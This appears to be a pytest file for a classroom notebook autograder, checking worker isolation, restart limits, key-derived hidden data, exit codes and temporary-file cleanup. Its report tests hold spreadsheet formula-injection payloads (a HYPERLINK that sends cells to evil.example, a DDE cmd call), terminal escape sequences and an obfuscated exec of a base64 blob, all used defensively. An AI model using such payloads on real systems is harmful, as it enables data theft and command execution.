"""Grading a whole class: no notebook ends, stalls or takes the place of another's grading.

- ``--jobs`` grades each submission in a worker process of its own, for every assignment; a
  worker that ends or hangs yields that submission's failure report, never blocks the others;
- a notebook that dies in every call is not started again and again;
- hidden data come from the instructor's secret key, per student, never from a public seed;
- reports are safe for a spreadsheet and a terminal, and each names the file it graded;
- the exit statuses of ``ioattn grade`` mean what its help says;
- a grading leaves no temporary folders behind.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import pytest

from ioattn.teach import grade as grading
from ioattn.teach.cli import EXIT_GRADED, EXIT_NOT_GRADED, EXIT_USAGE
from ioattn.teach.grade import find_submissions, grade, grade_many, note_duplicates
from ioattn.teach.report import Report, csv_cell, csv_table, printable
from ioattn.teach.variants import grading_key, hidden_rng, key_fingerprint

from .helpers import named, notebook, sleeper, solution
from .test_crossover_pebbling import CROSSOVER_CELL, PEBBLING_CELL

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

KEY = b"a grading key of the tests, not of a course"
#: Each assignment's honest notebook cell and the scores it gets, question by question (the
#: pebbling cell calls the grader's own key, which a confined notebook cannot read).
HONEST = {
    "matmul": (solution("matmul"), [2, 3]),
    "flash": (solution("flash"), [2, 3]),
    "backward": (solution("backward"), [2, 3]),
    "decoding": (solution("decoding"), [2, 3]),
    "crossover": (CROSSOVER_CELL, [3, 1, None]),
    "pebbling": (PEBBLING_CELL, None),
}


def honest_class(folder: Path, assignment: str, students=("ada", "alan")) -> list:
    """``(student, path)`` of an honest notebook of each of ``students``."""
    cell = HONEST[assignment][0]
    return [(s, notebook(folder / f"{s}.ipynb", assignment, s, cell)) for s in students]


# ============================================================================== --jobs
@pytest.mark.parametrize("assignment", sorted(HONEST))
def test_jobs_two_grades_a_class_of_honest_notebooks_of_every_assignment(tmp_path, assignment):
    """Two at a time, each in a worker of its own: the scores one process alone gives (for
    pebbling, where threads of one process failed in numba, the partition question)."""
    pairs = honest_class(tmp_path, assignment)
    reports = grade_many(assignment, pairs, jobs=2, key=KEY)
    assert [r.student for r in reports] == ["ada", "alan"]
    alone = grade(assignment, pairs[0][1], key=KEY)
    for r in reports:
        assert r.error is None and not r.cell_errors, r.text()
        assert r.submission == str(dict(pairs)[r.student])
        want = HONEST[assignment][1]
        if want is None:                                    # pebbling
            assert r.questions[1].score == 2, r.text()
        else:
            assert [q.score for q in r.questions] == want, r.text()
    assert [q.score for q in reports[0].questions] == [q.score for q in alone.questions]


def ends_for_bob(assignment, path, *, student, **options):
    """A grader whose worker ends with exit code 7 when it grades bob."""
    if student == "bob":
        os._exit(7)
    return grade(assignment, path, student=student, **options)


def hangs_for_bob(assignment, path, *, student, **options):
    """A grader whose worker never returns when it grades bob, and reports a canned grade
    for the others."""
    if student == "bob":
        while True:
            time.sleep(60)
    return Report(assignment, student, str(path), key="canned")


def test_a_worker_that_ends_yields_that_submissions_failure_only(tmp_path):
    pairs = honest_class(tmp_path, "matmul", ("ada", "bob", "grace"))
    reports = grade_many("matmul", pairs, jobs=2, key=KEY, grader=ends_for_bob)
    ada, bob, grace = reports
    assert "ended without a report (exit code 7)" in bob.error
    assert bob.student == "bob" and bob.submission == str(pairs[1][1])
    assert ada.error is grace.error is None and ada.score == grace.score == 5


def test_a_worker_that_hangs_is_stopped_at_its_deadline(tmp_path):
    pairs = honest_class(tmp_path, "matmul", ("ada", "bob", "grace"))
    reports = grade_many("matmul", pairs, jobs=2, key=KEY, grader=hangs_for_bob, seconds=40)
    ada, bob, grace = reports
    assert ada.key == grace.key == "canned"
    assert bob.error and "ran past 40 s" in bob.error and bob.score == 0
    assert "not graded" in bob.text()


def test_the_deadline_follows_from_the_limits():
    assert grading.deadline("matmul", 300) > 300 + 2 * 120
    assert grading.deadline("matmul", 600) - grading.deadline("matmul", 300) == 300
    assert grading.deadline("matmul", 300, restarts=0) < grading.deadline("matmul", 300)


def test_whatever_the_grader_raises_on_one_answer_fails_that_question_only(tmp_path,
                                                                          monkeypatch):
    """An error no check expected (here an OverflowError, as a value too large for a float
    would raise) is that question's failure, with its message; the next question is graded."""
    from ioattn.teach.assignments.matmul import Matmul

    real = Matmul.check

    def check(self, question, answers, ctx):
        if question == "q1":
            raise OverflowError("int too large to convert to float")
        return real(self, question, answers, ctx)

    monkeypatch.setattr(Matmul, "check", check)
    path = notebook(tmp_path / "ada.ipynb", "matmul", "ada", solution("matmul"))
    report = grade("matmul", path, key=KEY)
    q1, q2 = report.questions
    assert report.error is None and q2.score == 3, report.text()
    assert q1.score == 0 and "could not check this answer: OverflowError" in q1.reasons[0]


def test_whatever_the_grader_raises_on_one_notebook_is_its_report(tmp_path, monkeypatch):
    def deep(path):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(grading, "_read", deep)
    report = grade("matmul", tmp_path / "ada.ipynb", student="ada", key=KEY)
    assert "could not grade it: RecursionError" in report.error
    assert all(q.score is None for q in report.questions)


# ============================================================================== restarts
ENDS_IN_EVERY_CALL = "import os\ndef tiled_matmul(mem, A, B, C):\n    os._exit(4)\n"


def test_a_notebook_that_ends_in_every_call_is_started_again_a_bounded_number_of_times(
        tmp_path):
    path = notebook(tmp_path / "a.ipynb", "matmul", "ada", ENDS_IN_EVERY_CALL)
    report = grade("matmul", path, key=KEY, restarts=0)
    q1, q2 = report.questions
    assert q1.score == 0 and "exit code 4" in q1.reasons[0]
    assert q2.score == 0 and "not started again" in q2.reasons[0], report.text()
    assert "at most 1 time(s)" in q2.reasons[0] and report.restarts == 0
    report = grade("matmul", path, key=KEY)                  # the default: started again
    assert report.restarts == 1 and "exit code 4" in report.questions[1].reasons[0]
    assert grading.MAX_RESTARTS == 2


def test_the_cells_time_is_shared_by_every_start(tmp_path):
    """Cells that take 16 s of a 30 s limit get one start: the second start has what is left,
    less than its cells need, so the notebook cannot make every question cost the limit."""
    path = notebook(tmp_path / "a.ipynb", "matmul", "ada", "import time\ntime.sleep(16)",
                    ENDS_IN_EVERY_CALL)
    report = grade("matmul", path, key=KEY, notebook_time=30)
    q1, q2 = report.questions
    assert report.error is None and "exit code 4" in q1.reasons[0], report.text()
    assert q2.score == 0 and "time limit" in q2.reasons[0], report.text()


# ============================================================================== the key
def test_the_guide_never_shows_a_fixed_seed():
    import re

    guide = Path(__file__).resolve().parents[2] / "book" / "assignments" / "guide.md"
    assert not re.search(r"--seed[ =\"',]+\d", guide.read_text(encoding="utf-8"))


def test_hidden_data_are_per_student_and_come_from_the_key():
    def draw(key=KEY, student="ada", question="q1", course="", seed=None):
        return hidden_rng(key, "matmul", student, question, course, seed).integers(2 ** 62)

    base = draw()
    assert base == draw()                                   # a grading repeats
    others = [draw(student="alan"), draw(question="q2"), draw(course="cs1"),
              draw(key=b"another key of the tests"), draw(seed=1)]
    assert base not in others and len(set(others)) == len(others)
    assert draw(seed=1, student="alan") != draw(seed=1)      # a seed is still per student


def test_the_key_file_is_made_once_readable_by_its_owner_only(tmp_path):
    where = tmp_path / "config" / "grading.key"
    key = grading_key(where)
    assert grading_key(where) == key and len(key) >= 32
    assert stat.S_IMODE(where.stat().st_mode) == 0o600
    assert stat.S_IMODE(where.parent.stat().st_mode) == 0o700
    where.chmod(0o644)
    with pytest.raises(ValueError, match="chmod 600"):
        grading_key(where)
    with pytest.raises(FileNotFoundError):
        grading_key(tmp_path / "none", create=False)
    assert len(key_fingerprint(key)) == 12 and key_fingerprint(key) not in key.decode()


def test_the_report_records_the_keys_fingerprint_not_the_key(tmp_path):
    path = notebook(tmp_path / "ada.ipynb", "matmul", "ada", "x = 1")
    report = grade("matmul", path, key=KEY)
    assert report.key == key_fingerprint(KEY) and report.seed is None
    everything = json.dumps(report.to_dict()) + report.text() + csv_table([report])
    assert KEY.decode() not in everything and report.key in report.text()
    assert next(csv.DictReader(io.StringIO(csv_table([report]))))["key"] == report.key


def test_grading_draws_the_hidden_data_from_the_key_and_the_student(monkeypatch):
    """The checks get the generator of ``hidden_rng`` for the graded student and question."""
    seen = []
    real = grading.hidden_rng

    def spy(key, assignment, student, question, course="", seed=None):
        seen.append((key, assignment, student, question, course, seed))
        return real(key, assignment, student, question, course, seed)

    monkeypatch.setattr(grading, "hidden_rng", spy)
    with tempfile.TemporaryDirectory() as tmp:
        path = notebook(Path(tmp) / "alan.ipynb", "matmul", "alan", solution("matmul"))
        assert grade("matmul", path, key=KEY, seed=9).score == 5
    assert seen == [(KEY, "matmul", "alan", "q1", "", 9), (KEY, "matmul", "alan", "q2", "", 9)]


# ============================================================================== reports
HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2&D2,"open")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                  "＝1+1"])
def test_a_csv_cell_is_never_a_formula(text):
    cell = csv_cell(text)
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell


def test_the_score_sheet_is_inert_in_a_spreadsheet():
    r = Report("matmul", HYPERLINK, "submissions/x.ipynb", key="abc")
    r.error = '=cmd|" /C calc"!A0'
    rows = list(csv.reader(io.StringIO(csv_table([r]))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert rows[1][0] == "'" + HYPERLINK


ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\r\x08\u202e\ud800"


def test_control_characters_never_reach_the_terminal_or_the_json():
    r = Report("matmul", "ada", f"submissions/ada{ESCAPES}.ipynb", key="abc",
               cell_errors=[f"cell 2: ValueError: {ESCAPES}"], error=f"broke {ESCAPES}")
    text, data = r.text(), json.dumps(r.to_dict())
    for bad in ("\x1b", "\x07", "\r", "\x08", "\u202e", "\ud800"):
        assert bad not in text and bad not in json.loads(data)["error"]
    assert "red" in text
    text.encode("utf-8")                                    # no lone surrogate left
    assert printable("a\nb\tc") == "a\nbc"


def test_the_report_round_trips_as_plain_data(tmp_path):
    path = notebook(tmp_path / "ada.ipynb", "matmul", "ada", solution("matmul"))
    report = grade("matmul", path, key=KEY)
    again = Report.from_dict(report.to_dict())
    assert again.text() == report.text() and again.score == 5


def test_a_second_upload_naming_a_classmate_leaves_the_classmate_graded(tmp_path):
    """Grace uploads twice, the second file recording Ada: Ada is still graded from her own
    file, Grace's two files are each graded as hers, and every report names its file."""
    notebook(tmp_path / "ada.ipynb", "matmul", "ada", solution("matmul"))
    notebook(tmp_path / "grace.ipynb", "matmul", "grace", "x = 1")
    notebook(tmp_path / "grace (1).ipynb", "matmul", "ada", solution("matmul"))
    pairs, problems = find_submissions(tmp_path, "matmul")
    assert not problems and [s for s, _ in pairs] == ["ada", "grace", "grace"]
    reports = grade_many("matmul", pairs, jobs=2, key=KEY)
    ada, *graces = reports
    assert ada.error is None and ada.score == 5 and not ada.notes
    assert sorted(Path(r.submission).name for r in graces) == ["grace (1).ipynb",
                                                               "grace.ipynb"]
    for r in graces:
        assert r.student == "grace" and r.error is None
        assert any("handed in 2 files" in n and "grace (1).ipynb" in n for n in r.notes)
    (copied,) = [r for r in graces if r.submission.endswith("(1).ipynb")]
    assert any("records the student 'ada'" in n for n in copied.notes), copied.text()
    assert "file " + copied.submission in copied.text()
    sheet = list(csv.DictReader(io.StringIO(csv_table(reports))))
    assert [row["submission"] for row in sheet] == [r.submission for r in reports]


def test_duplicates_are_noted_in_every_report_of_that_student():
    rs = [Report("matmul", s, f"{s}{i}.ipynb") for i, s in enumerate(["ada", "bob", "ada"])]
    note_duplicates(rs)
    assert rs[0].notes == rs[2].notes and "ada0.ipynb, ada2.ipynb" in rs[0].notes[0]
    assert not rs[1].notes


# ============================================================================== exit statuses
def ioattn(*args, cwd, env=None):
    return subprocess.run([sys.executable, "-m", "ioattn", *args], cwd=cwd,
                          capture_output=True, text=True, check=False,
                          env={**os.environ, **(env or {})})


def test_exit_status_0_when_every_notebook_is_graded(tmp_path):
    notebook(tmp_path / "subs" / "ada.ipynb", "matmul", "ada", "x = 1")
    done = ioattn("grade", "matmul", "subs", cwd=tmp_path)
    assert done.returncode == EXIT_GRADED == 0, done.stderr
    assert "total 0/5" in done.stdout


def test_exit_status_1_when_one_is_not_graded_and_it_says_why(tmp_path):
    notebook(tmp_path / "subs" / "ada.ipynb", "matmul", "ada", "x = 1")
    (tmp_path / "subs" / "bob.ipynb").write_text("{" * 100_000)
    done = ioattn("grade", "matmul", "subs", cwd=tmp_path)
    assert done.returncode == EXIT_NOT_GRADED == 1, done.stderr
    assert "not graded: subs/bob.ipynb: not a notebook" in done.stdout


@pytest.mark.parametrize("cell", [
    "import os\nos._exit(0)",                              # ends while its cells run
    "import sys\nsys.stdout.write('\\x1b[2J' * 10)\nwhile True:\n    pass",
    "raise SystemExit(2)",
])
def test_a_students_notebook_never_makes_the_exit_status_2(tmp_path, cell):
    path = notebook(tmp_path / "ada.ipynb", "matmul", "ada", cell, solution("matmul"))
    done = ioattn("grade", "matmul", str(path), "--timeout", "20", cwd=tmp_path)
    assert done.returncode in (EXIT_GRADED, EXIT_NOT_GRADED), (done.stdout, done.stderr)
    assert done.stdout.strip(), done.stderr                 # never a silent status
    assert "\x1b" not in done.stdout + done.stderr


@pytest.mark.parametrize("args, why", [
    (["grade", "matmul", "nowhere.ipynb"], "no submission at nowhere.ipynb"),
    (["grade", "matmul", "subs", "--student", "ada"], "--student names"),
    (["grade", "matmul", "subs", "--jobs", "0"], "positive integer"),
    (["grade", "matmul", "subs", "--key", "open.key"], "chmod 600"),
    (["grade", "matmul", "subs", "--csv", "nofolder/x.csv"], "no folder"),
])
def test_exit_status_2_only_for_the_command_line(tmp_path, args, why):
    notebook(tmp_path / "subs" / "ada.ipynb", "matmul", "ada", "x = 1")
    (tmp_path / "open.key").write_text("k" * 40)
    (tmp_path / "open.key").chmod(0o644)
    done = ioattn(*args, cwd=tmp_path)
    assert done.returncode == EXIT_USAGE == 2 and why in done.stderr, done.stderr


def test_a_new_key_is_made_on_first_use_and_said(tmp_path):
    notebook(tmp_path / "subs" / "ada.ipynb", "matmul", "ada", "x = 1")
    where = tmp_path / "home" / "grading.key"
    done = ioattn("grade", "matmul", "subs", "--json", cwd=tmp_path,
                  env={"IOATTN_GRADING_KEY": str(where)})
    assert done.returncode == 0 and f"made a new grading key, {where}" in done.stderr
    report = json.loads(done.stdout)["reports"][0]
    assert report["key"] == key_fingerprint(where.read_bytes().strip())


# ============================================================================== temporary files
@pytest.fixture
def scratch(monkeypatch):
    """A temporary folder of the test's own as every process's ``TMPDIR`` (so that other
    gradings on the machine do not count), one a notebook run as another user can reach."""
    folder = Path(tempfile.mkdtemp(prefix="grading-scratch-", dir="/tmp"))
    folder.chmod(0o711)
    monkeypatch.setenv("TMPDIR", str(folder))
    yield folder
    subprocess.run(["rm", "-rf", str(folder)], check=False)


def left(folder: Path) -> list:
    return sorted(p.name for p in folder.iterdir())


def test_a_grading_leaves_no_temporary_folders(tmp_path, scratch):
    pairs = honest_class(tmp_path, "matmul", ("ada",))
    assert grade_many("matmul", pairs, jobs=1, key=KEY)[0].score == 5
    assert left(scratch) == []


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_run_leaves_no_temporary_folders(tmp_path, scratch, signum):
    """Ctrl-C, or SIGTERM, while a notebook's cells run: the command stops its worker, whose
    notebook ends with it, and every folder of the grading is removed. The command starts with
    SIGINT ignored, as a shell starts a background job: it still stops on it."""
    cell, marker = sleeper()
    notebook(tmp_path / "subs" / "ada.ipynb", "matmul", "ada", cell)
    proc = subprocess.Popen([sys.executable, "-m", "ioattn", "grade", "matmul", "subs"],
                            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True,
                            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN))
    for _ in range(1200):                          # until the notebook's cell runs
        if named(marker):
            break
        time.sleep(0.1)
    assert named(marker), "the notebook never started"
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 130 and "interrupted" in err, (out, err)
    assert left(scratch) == []
    assert not named(marker)


def test_folders_left_by_a_run_killed_outright_are_removed_by_the_next(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f"ioattn-grade-{dead.pid}-x"
    (stale / "ioattn-run-y").mkdir(parents=True)
    alive = tmp_path / f"ioattn-grade-{os.getpid()}-x"
    alive.mkdir()
    assert grading.sweep_stale(tmp_path) == [stale]
    assert not stale.exists() and alive.exists()


def test_a_worker_stopped_at_its_deadline_takes_its_notebook_down(tmp_path, scratch):
    """The notebook's process does not outlive a worker stopped at its deadline."""
    cell, marker = sleeper()
    path = notebook(tmp_path / "ada.ipynb", "matmul", "ada", cell)
    reports = grade_many("matmul", [("ada", path)], key=KEY, seconds=15)
    assert "ran past 15 s" in reports[0].error
    assert not named(marker) and left(scratch) == []


def test_the_hidden_rng_is_a_numpy_generator():
    assert isinstance(hidden_rng(KEY, "matmul", "ada", "q1"), np.random.Generator)


def test_a_report_lists_what_hides_code_and_an_honest_one_lists_nothing(tmp_path):
    """Code that unpacks and runs a blob still earns what it earns, and its report says where
    it is for the instructor to read; the honest notebook's report has no flag."""
    blob = "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'eJwDAAAAAAE=')))"
    flagged = grade("matmul", notebook(tmp_path / "ada.ipynb", "matmul", "ada", blob,
                                       solution("matmul")), key=KEY)
    honest = grade("matmul", notebook(tmp_path / "alan.ipynb", "matmul", "alan",
                                      solution("matmul")), key=KEY)
    assert flagged.score == 5 and honest.score == 5
    assert any("exec" in f for f in flagged.flags), flagged.flags
    assert all(f.startswith("cell ") for f in flagged.flags)
    assert "flag: cell" in flagged.text() and Report.from_dict(flagged.to_dict()).flags
    assert honest.flags == [] and "flag:" not in honest.text()
